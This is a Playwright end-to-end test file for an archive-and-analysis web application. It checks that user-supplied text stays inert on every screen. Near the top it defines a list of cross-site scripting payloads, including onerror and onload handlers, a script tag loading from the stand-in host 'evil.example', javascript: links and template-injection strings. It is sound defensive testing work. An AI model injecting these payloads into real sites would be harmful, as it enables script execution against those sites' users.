import { mkdir, rm, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import type { Page } from '@playwright/test'
import { backupFormat } from '../server/features/backups/manifest.ts'
import { archivePosts } from './archived.ts'
import { openSearch } from './ferry.ts'
import { expect, type Litopys, test } from './harness.ts'

const image = '<img src=x onerror=alert(1)>'
/** Markup and templates that have run scripts in other applications. */
const markup = [
  image,
  '"><svg onload=alert(1)>',
  '<script src="https://evil.example/x.js"></script>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '[link](javascript:alert(1)) javascript:alert(1)',
  "{{constructor.constructor('alert(1)')()}} #{alert(1)}",
  '<a href="javascript:alert(1)" style="background:url(https://evil.example/y)">link</a>',
].join(' ')
/** A text with markup that shows which text it is. */
const marked = (what: string) => `${what} ${image}`

test('texts with markup run no script and load nothing on any screen', async ({ page, litopys }) => {
  test.setTimeout(240_000)
  const faults = watchFaults(page, new URL(litopys.address).origin)
  const damaged = join(litopys.backups, 'snapshots', `${marked('manifest')}.json`)
  const ids = await storeHostileTexts(litopys)
  await writeDamagedManifest(litopys.backups, damaged)
  litopys.translator.troubles.push({ kind: 'says', text: `translation ${markup}` })
  await openSearch(page, litopys, litopys.administrator, { q: 'розмітка' })
  await expect(page.getByText(image).first()).toBeVisible()
  await page
    .getByRole('article')
    .filter({ hasText: 'маслопрес' })
    .getByRole('button', { name: 'Translate', exact: true })
    .click()
  await expect(page.getByRole('group', { name: 'English translation' })).toContainText(
    `translation ${markup}`,
  )
  await expectInert(page)

  /** Places of the application, and the texts with markup that each shows as they are. */
  const places: Record<string, string[]> = {
    '?q=розмітка&view=table': ['author', 'channel'],
    [`?q=${encodeURIComponent(marked('query'))}`]: [],
    [`?entity=${encodeURIComponent(`url:${marked('domain')}`)}`]: ['domain'],
    [`posts/${ids.post}`]: ['author', 'channel', 'file', 'forward'],
    quotes: ['comment', 'tag'],
    [`quotes/${ids.quote}`]: ['author', 'comment', 'tag'],
    tags: ['tag'],
    channels: ['channel'],
    [`channels/${ids.channel}`]: ['channel'],
    categories: ['rule'],
    glossary: ['term', 'meaning'],
    requests: ['request'],
    [`requests?request=${ids.request}`]: ['request'],
    [`requests/${ids.request}/new`]: ['request'],
    registry: ['analysis'],
    'registry?tab=audit-log': [],
    'registry?tab=false-positives': ['reason'],
    [`analyses/${ids.analysis}`]: ['analysis', 'theme', 'heading', 'list'],
    [`analyses/${ids.analysis}?edit=1`]: [],
    jobs: ['upload', 'broken'],
    backups: ['manifest'],
    users: ['given', 'family'],
    settings: ['key'],
  }
  for (const [place, texts] of Object.entries(places))
    await test.step(place, async () => {
      await visit(page, new URL(place, litopys.address))
      await expect(page.locator('[class*=waiting]')).toHaveCount(0)
      for (const text of texts) await expect(page.locator('body')).toContainText(marked(text))
      await expectInert(page)
    })
  expect(faults).toEqual([])
  await rm(damaged)
  await ids.remove()

  // A page that did use markup would have been noticed.
  const use = (text: string) => document.body.insertAdjacentHTML('beforeend', text)
  await expect(page.evaluate(use, image)).rejects.toThrow('TrustedHTML')
  await expect.poll(() => faults.length).toBeGreaterThan(0)
})

/**
 * Opens a screen. Another screen of the running application needs no new page, which takes most of the time; one with
 * a query can be the same screen.
 */
async function visit(page: Page, { href, search }: URL): Promise<void> {
  if (search !== '') await page.goto(href, { waitUntil: 'commit' })
  else
    await page.evaluate((address) => {
      for (const heading of document.querySelectorAll('h1')) heading.dataset.before = ''
      history.pushState(null, '', address)
      dispatchEvent(new PopStateEvent('popstate'))
    }, href)
  await expect(page.locator('h1:not([data-before]), [role=dialog]').first()).toBeAttached()
}

/** No element or link was made of markup. */
async function expectInert(page: Page): Promise<void> {
  await expect(page.locator('main script, main iframe, [onerror], [onload]')).toHaveCount(0)
  await expect(page.locator('a[href^="javascript:"]')).toHaveCount(0)
}

/** Dialogs, violations of the content security policy, and requests to other hosts, as they happen. */
function watchFaults(page: Page, ownOrigin: string): string[] {
  const faults: string[] = []
  page.on('dialog', async (dialog) => {
    faults.push(`a dialog: ${dialog.message()}`)
    await dialog.dismiss()
  })
  page.on('console', (line) => {
    if (/Content Security Policy|Trusted ?Type|TrustedHTML/.test(line.text())) faults.push(line.text())
  })
  page.on('request', (request) => {
    const { origin, protocol } = new URL(request.url())
    if (protocol !== 'data:' && protocol !== 'blob:' && origin !== ownOrigin) faults.push(request.url())
  })
  return faults
}

/** Puts a manifest that cannot be read into a folder of backups. Its name is in the list of backups. */
async function writeDamagedManifest(backups: string, path: string): Promise<void> {
  await mkdir(join(backups, 'snapshots'), { recursive: true })
  await writeFile(join(backups, 'litopys-backup.json'), JSON.stringify({ format: backupFormat }))
  await writeFile(path, '{')
}

/** Archives a post, and stores objects of the administrator, all with markup in every text. */
async function storeHostileTexts(litopys: Litopys) {
  const channelId = '1500000066'
  const post = {
    channelId,
    messageId: 1,
    date: '2026-02-01T06:00:00Z',
    views: 1,
    isForwarded: true,
    text: `розмітка ${markup}`,
    channel: marked('channel'),
    author: marked('author'),
    category: marked('category'),
    keywords: [marked('keyword')],
    audience: [marked('audience')],
    reference: { forwardedFrom: { name: marked('forward') } },
    media: [{ kind: 'file', fileName: marked('file'), missing: marked('missing') }],
    markup: [
      { kind: 'url', id: marked('address'), detail: marked('domain') },
      { kind: 'hashtag', id: marked('mark') },
    ],
    reactions: [{ name: marked('reaction'), count: 1 }],
  }
  // Only a post in Ukrainian or Russian can be translated.
  const ukrainian = {
    ...post,
    messageId: 2,
    text: `Розмітка: старий маслопрес знову працює, борошно везуть до міста ${image}`,
  }
  await archivePosts(litopys, [post, ukrainian], marked('upload'))
  await archivePosts(litopys, [{ ...post, views: marked('broken') }], marked('upload'))
  const headers = { authorization: '' }
  const type = { 'content-type': 'application/json' }
  const send = async (path: string, body?: object, method = body ? 'POST' : 'GET') => {
    const url = new URL(`/api/v1${path}`, litopys.address)
    const answer = await fetch(url, {
      method,
      headers: { ...headers, ...(body && type) },
      ...(body && { body: JSON.stringify(body) }),
    })
    expect([path, answer.status]).toEqual([path, 200])
    return (await answer.json()).data
  }
  const { accessToken } = await send('/auth/login', litopys.administrator)
  headers.authorization = `Bearer ${accessToken}`
  const postId = `${channelId}_1`
  const quote = await send('/quotes', {
    postId,
    tags: [marked('tag')],
    comment: `${marked('comment')} ${markup}`,
  })
  const request = await send('/requests', { title: marked('request'), search: 'розмітка' })
  await send(`/requests/${request._id}/subscription`, {})
  const rule = await send('/rules', { category: marked('rule'), clues: [{ q: '"розмітка"', weight: 1 }] })
  const term = await send('/glossary', { term: marked('term'), translation: marked('meaning') })
  const key = await send('/api-keys', { name: marked('key'), scopes: ['read'], days: 1 })
  const names = { givenName: marked('given'), familyName: marked('family'), worksFor: marked('organisation') }
  const user = await send('/users', { email: 'markup@litopys.test', role: ['User'], ...names })
  const mark = await send('/false-positives', {
    kind: 'hashtag',
    id: marked('mark'),
    reason: marked('reason'),
  })
  const blocks = [
    { type: 'heading', id: 'h', level: 2, text: marked('heading') },
    { type: 'list', id: 'l', ordered: false, items: [`${marked('list')} ${markup}`] },
    { type: 'post', id: 'p', postId },
  ]
  const document = { blocks, conclusions: markup }
  const titles = { itemId: 'b', itemTitle: marked('analysis'), theme: marked('theme') }
  const analysis = await send('/analyses', { ...titles, document })
  const channels: { _id: string; channelId: string }[] = await send('/channels?itemsPerPage=100')
  const channel = channels.find((one) => one.channelId === channelId)
  return {
    post: postId,
    quote: quote._id,
    request: request._id,
    analysis: analysis._id,
    channel: channel?._id,
    /** Removes what would change the screens of other stories. */
    remove: async () => {
      const paths = [`/rules/${rule._id}`, `/glossary/${term._id}`, `/api-keys/${key.apiKey.id}`]
      for (const path of [...paths, `/false-positives/${mark._id}`, `/users/${user._id}`])
        await send(path, undefined, 'DELETE')
    },
  }
}
